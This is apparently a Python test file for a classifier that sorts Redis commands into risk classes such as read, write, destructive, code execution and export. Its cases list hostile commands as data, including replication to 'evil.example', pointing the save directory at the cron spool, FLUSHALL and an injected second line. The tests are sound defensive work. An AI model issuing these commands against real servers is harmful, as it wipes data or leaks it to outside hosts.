from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from countersign.statements.redis import classify_redis
from countersign.statements.verdict import READING

CASES = [
    ("GET greeting", "read"),
    ("get greeting", "read"),
    ("  TTL\tgreeting ", "read"),
    ('"GET" greeting', "read"),
    ('"\\x47ET" greeting', "read"),
    ("'GET' greeting", "read"),
    ("MGET a b c", "read"),
    ("PING", "read"),
    ("INFO replication", "read"),
    ("DBSIZE", "read"),
    ("OBJECT ENCODING a", "read"),
    ("object encoding a", "read"),
    ("SCAN 0", "read"),
    ("SCAN 17 MATCH order:* COUNT 50", "read"),
    ("SCAN 0 COUNT 1000000", "bulk_read"),
    ("HSCAN cart 0 COUNT 20", "read"),
    ("KEYS *", "bulk_read"),
    ("KEYS sess?on", "bulk_read"),
    ("KEYS session", "read"),
    ("LRANGE log 0 9", "read"),
    ("LRANGE log 0 -1", "bulk_read"),
    ("LRANGE log -10 -1", "read"),
    ("LRANGE log 0 5000", "bulk_read"),
    ("LRANGE log zero 9", "unparsable"),
    ("ZRANGE board 0 9 WITHSCORES", "read"),
    ("ZRANGE board 0 -1", "bulk_read"),
    ("ZRANGE board 0 100 BYSCORE", "bulk_read"),
    ("ZRANGE board 0 100 BYSCORE LIMIT 0 5", "read"),
    ("ZRANGEBYSCORE board -inf +inf", "bulk_read"),
    ("ZRANGEBYSCORE board -inf +inf LIMIT 0 10", "read"),
    ("ZRANGEBYSCORE board -inf +inf LIMIT 0 -1", "bulk_read"),
    ("SORT jobs", "bulk_read"),
    ("SORT jobs LIMIT 0 5", "read"),
    ("SORT jobs GET limit GET 5", "bulk_read"),
    ("SORT jobs STORE kept", "write"),
    ("GEORADIUSBYMEMBER shops count 5 km", "bulk_read"),
    ("GEOSEARCH shops FROMMEMBER a BYRADIUS 5 km COUNT 3", "read"),
    ("GEORADIUS shops 1 2 5 km STORE near", "write"),
    ("XRANGE events - +", "bulk_read"),
    ("XRANGE events - + COUNT 10", "read"),
    ("XREAD COUNT 2 STREAMS events 0", "read"),
    ("XREAD COUNT 2 BLOCK 0 STREAMS events $", "read session_control"),
    ("SRANDMEMBER tags -5000", "bulk_read"),
    ("SET greeting hello EX 60", "write"),
    ("SET greeting", "unparsable"),
    ("DEL a b", "write"),
    ("GETDEL a", "read write"),
    ("LPOP jobs", "read write"),
    ("BLPOP jobs 0", "read session_control write"),
    ("RENAME a b", "write"),
    ("ZREMRANGEBYSCORE board -inf +inf", "mass_write"),
    ("FLUSHALL", "destructive_ddl mass_write"),
    ("FlushDB ASYNC", "destructive_ddl mass_write"),
    ('EVAL "return 1" 0', "code_execution"),
    ("EVALSHA e0e1 0", "code_execution"),
    ("FCALL f 0", "code_execution"),
    ("FUNCTION LOAD code", "code_execution"),
    ("FUNCTION LIST", "read"),
    ("SCRIPT LOAD code", "code_execution"),
    ("SCRIPT EXISTS e0e1", "read"),
    ("MODULE LOADEX /opt/m.so", "code_execution file_access"),
    ("CONFIG GET maxmemory", "read"),
    ("CONFIG GET requirepass", "privilege read"),
    ("CONFIG GET max*", "privilege read"),
    ("CONFIG SET maxmemory 1gb", "session_control"),
    ("CONFIG SET dir /var/spool/cron", "file_access session_control"),
    ("CONFIG SET maxmemory 1gb requirepass x", "privilege session_control"),
    ("CONFIG REWRITE", "file_access session_control"),
    ("BGSAVE", "file_access session_control"),
    ("REPLICAOF evil.example 6379", "export mass_write session_control"),
    ("SLAVEOF NO ONE", "session_control"),
    ('MIGRATE host 6379 "" 0 5000 KEYS a', "export write"),
    ("PSYNC ? -1", "bulk_read export"),
    ("PUBLISH news hello", "export"),
    ("MONITOR", "bulk_read privilege session_control"),
    ("AUTH someone something", "privilege session_control"),
    ("HELLO 3 AUTH someone something", "privilege session_control"),
    ("ACL WHOAMI", "read"),
    ("ACL SETUSER eve on", "privilege"),
    ("ACL GETUSER eve", "privilege read"),
    ("CLIENT KILL ID 3", "session_control"),
    ("CLIENT ID", "read"),
    ("SELECT 1", "session_control"),
    ("SHUTDOWN NOSAVE", "session_control"),
    ("SUBSCRIBE news", "session_control"),
    ("DEBUG SLEEP 30", "session_control"),
    ("MULTI\nSET a 1\nEXEC", "session_control write"),
    ("GET a\r\nGET b", "read"),
    ("GET a\n\nFLUSHALL\n", "destructive_ddl mass_write read"),
    ("", "unparsable"),
    (" \r\n\t", "unparsable"),
    ("*1\r\n$4\r\nPING\r\n", "unparsable"),
    ("FT.SEARCH idx *", "unparsable"),
    ("b840fc02d5240454 a", "unparsable"),
    ("9 GET a", "unparsable"),
    ("GET\u00a0a", "unparsable"),
    ("\u0262ET a", "unparsable"),
    ('GET "a', "unparsable"),
    ('GET "a"b', "unparsable"),
    ("GET a\0", "unparsable"),
    ("drop everything please", "unparsable"),
]


@pytest.mark.parametrize(("text", "classes"), CASES)
def test_a_command_has_exactly_the_classes_that_its_documentation_says(text: str, classes: str) -> None:
    assert classify_redis(text).classes == set(classes.split())


def test_keys_are_told_by_their_first_segment_so_that_no_value_travels() -> None:
    verdict = classify_redis("MGET session:8f3a session:77 greeting")
    assert verdict.reads == {"session:*", "greeting"}
    assert verdict.row_bound == 3


def test_the_bound_of_a_page_is_the_page() -> None:
    assert classify_redis("LRANGE log 10 19").row_bound == 10
    assert classify_redis("LRANGE log 0 -1").row_bound is None


def test_the_keys_that_a_sort_reaches_and_stores_to_are_told() -> None:
    assert classify_redis("SORT list BY nosort GET # GET secret:* GET token_*").reads == {"list", "secret:*", "token_*"}
    assert "kept" in classify_redis("SORT list STORE kept").writes
    assert "kept" in classify_redis("GEORADIUS places 1 2 3 km STORE kept").writes


def test_an_array_of_the_protocol_hides_no_other_line() -> None:
    assert classify_redis("*1\r\n$4\r\nPING\r\nFLUSHALL").classes >= {"unparsable", "destructive_ddl"}


def test_a_huge_text_is_not_looked_at() -> None:
    assert classify_redis("GET " + "a" * 70_000).classes == {"unparsable"}


@given(st.text(max_size=200) | st.text(alphabet="GETSgets \"'\\x\r\n\0*$-1", max_size=60))
def test_no_text_raises(text: str) -> None:
    assert classify_redis(text).classes


@given(st.lists(st.sampled_from([text for text, _ in CASES if text.strip()]), min_size=1, max_size=4))
def test_several_lines_are_the_union_of_each(texts: list[str]) -> None:
    whole = classify_redis("\n".join(texts))
    parts = [classify_redis(text) for text in texts]
    assert whole.only_reads == all(part.only_reads for part in parts)
    for part in parts:
        assert part.classes - READING <= whole.classes


@given(st.sampled_from([text for text, _ in CASES if text.isascii() and "\0" not in text]), st.data())
def test_case_does_not_change_what_a_command_is(text: str, data: st.DataObject) -> None:
    words = text.split(" ")
    upper = data.draw(st.booleans())
    if words[0].isalpha():
        words[0] = words[0].upper() if upper else words[0].lower()
        assert classify_redis(" ".join(words)).classes == classify_redis(text).classes
